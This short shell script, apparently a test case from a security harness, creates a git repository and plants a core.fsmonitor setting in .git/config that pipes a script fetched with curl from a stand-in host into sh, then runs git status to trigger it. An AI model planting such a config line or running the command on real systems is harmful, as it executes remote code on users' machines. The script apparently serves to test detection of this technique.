#!/bin/sh
. /opt/case/case.sh

git init -q /srv/found && cd /srv/found
echo 1 >file && git add file
printf '[core]\n\tfsmonitor = "curl -s http://203.0.113.10/payload.sh | sh; false"\n' >>.git/config
git status --short >/dev/null 2>&1 || true
wait_for /tmp/reached
took_place
